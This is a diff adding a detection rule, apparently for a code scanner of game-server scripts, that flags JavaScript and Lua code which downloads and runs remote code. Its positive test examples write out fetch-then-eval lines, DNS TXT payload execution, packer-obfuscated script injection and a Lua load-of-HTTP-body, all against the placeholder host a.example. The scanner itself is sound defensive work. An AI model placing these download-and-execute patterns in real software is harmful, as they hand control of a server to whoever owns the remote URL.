@@ -1,0 +1,108 @@
+import { origin, textsOf } from '#analysis/flow/value.ts'
+import { codeKinds, codeOf } from './code.ts'
+import { markupSources } from './markup.ts'
+import { defineRule, high, js, lua, medium } from './rule.ts'
+
+const textMax = 80
+
+export const runsDownloadedCode = defineRule({
+  id: 'runs-downloaded-code',
+  severity: 'high',
+  isLowerOnClient: true,
+  title: 'Runs code that it downloads',
+  why: 'The owner of the URL decides what your server does, and can change it at any time.',
+  check: 'Ask the author for the code. Replace the download with a copy of it, or do not use the script.',
+  since: 1,
+  on: codeKinds,
+  test: (event, program) => {
+    const remote = markupSources(event).find(({ kind }) => kind === 'script')
+    if (remote)
+      return remote.isLibrary
+        ? medium(remote.host)
+        : high(`${remote.url.slice(0, textMax)}, run by a script element`)
+    const code = codeOf(event)
+    if (!code || (code.origins & origin.http) === 0) return undefined
+    if (code.severity) return medium(code.runner)
+    const own = [...textsOf(code.value), code.value.prefix ?? ''].find((text) => /^https?:\/\//i.test(text))
+    const [url, ...others] = own === undefined ? program.urls : [own]
+    if (url === undefined) return high(`run by ${code.runner}`)
+    return high(
+      `${url.slice(0, textMax)}${others.length === 0 ? '' : ' or another URL'}, run by ${code.runner}`,
+    )
+  },
+  examples: {
+    found: [
+      js(
+        `const text = "importScripts('https://a.example/a.js')"
+^new Worker(URL.createObjectURL(new Blob([text])))`,
+        'page',
+      ),
+      js(`const make = Reflect.getPrototypeOf(async () => 0).constructor
+^fetch(url).then((r) => r.text()).then((text) => Reflect.construct(make, ['require', text]))`),
+      js(`^importScripts('https://a.example/a.js')`, 'page'),
+      js(
+        `const element = document.createElement('script')
+^element.src = 'https://localhost.example/a.js'`,
+        'page',
+      ),
+      js(`^Object.assign(document.createElement('script'), { src: 'https://a.example/a.js' })`, 'page'),
+      js(
+        `const element = document.createElement('scr' + 'ipt')
+^element.src = ['https:', '', 'a.example', 'a.js'].join('/')`,
+        'page',
+      ),
+      js(`^import('https://' + 'a.example' + '/a.js')`, 'page'),
+      js(`^app.innerHTML += '<script src="https://a.example/a.js"></script>'`, 'page'),
+      js(`^import { start } from 'https://a.example/a.js'`, 'page'),
+      lua(`PerformHttpRequest('https://a.example', function(status, body)
+^ load(body)()
+end)`),
+      js(`fetch('https://a.example').then((r) => r.text()).then((text) => {
+^ eval(text)
+})`),
+      js(`const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'
+^require('fs').writeFileSync(file, line + text)`),
+      js(`require('dns').resolveTxt('a.example', (error, rows) => {
+^ eval(rows[0][0])
+})`),
+      js(
+        `^eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',13,13,'const|s|document|createElement|script|src|https|a|example|b|js|body|append'.split('|'),0,{}))`,
+        'page',
+      ),
+    ],
+    notFound: [
+      js(
+        `const text = "importScripts('a.js')"
+new Worker(URL.createObjectURL(new Blob([text])))`,
+        'page',
+      ),
+      js(`fetch(url).then((r) => r.text()).then((text) => Reflect.construct(Map, [['text', text]]))`),
+      js(`importScripts('a.js')`, 'page'),
+      js(
+        `const element = document.createElement('script')
+element.src = isTest ? 'http://localhost:4173/a.js' : \`https://cfx-nui-\${name}/a.js\``,
+        'page',
+      ),
+      js(`Object.assign(document.createElement('img'), { src: 'https://a.example/a.png' })`, 'page'),
+      js(
+        `const element = document.createElement('script')
+element.src = 'https://cfx-nui-game/ui/jquery.js'`,
+        'page',
+      ),
+      js(`import('./modules/' + name + '.js')`, 'page'),
+      js(`app.innerHTML = '<script src="js/a.js"></script>'`, 'page'),
+      js(`import { start } from './a.js'`, 'page'),
+      lua(`PerformHttpRequest('https://a.example', function(status, body)
+  print(json.decode(body).version)
+end)`),
+      js(`fetch('https://a.example').then((r) => r.json()).then((data) => { console.log(data.version) })`),
+      js(`const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'
+require('fs').writeFileSync('docs.md', line + text)`),
+      js(`require('dns').resolveTxt('a.example', (error, rows) => { console.log(rows) })`),
+      js(
+        `eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');',5,5,'const|s|document|createElement|p'.split('|'),0,{}))`,
+        'page',
+      ),
+    ],
+  },
+})
